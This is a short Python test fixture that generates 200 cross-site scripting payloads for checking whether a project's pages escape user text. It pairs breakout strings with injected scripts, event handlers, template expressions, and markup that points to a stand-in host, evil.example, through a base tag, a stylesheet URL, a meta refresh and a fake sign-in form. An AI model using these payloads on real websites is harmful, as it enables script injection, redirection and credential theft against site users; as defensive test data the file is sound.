"""What would somebody call an event, a list or themselves to run a script in our pages? Two hundred ways."""

from __future__ import annotations

from itertools import product

#: How to get out of where a text might stand: an attribute, an element, a script, a comment, a template.
_WAYS_OUT = (
    "", '"', "'", '">', "'>", "`", "</title>", "</script>", "</textarea>", "</pre>", "</time>", "-->", "]]>", "\\", "\\u003c", "&#34;>",
)  # fmt: skip
#: What would then run. Each calls `ran`, which a test sets up, or leads to another host.
_SCRIPTS = (
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<svg/onload=ran()>",
    "<details open ontoggle=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'>",
    "<a href=javascript:ran()>x</a>",
    " autofocus onfocus=ran() x=",
    "javascript:ran()//",
    "{{ran()}}${ran()}{% print(7*7) %}",
    "<base href=//evil.example><script src=x></script>",
    "<style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>Sign in",
)

PAYLOADS = [out + script for out, script in product(_WAYS_OUT, _SCRIPTS)][:200]
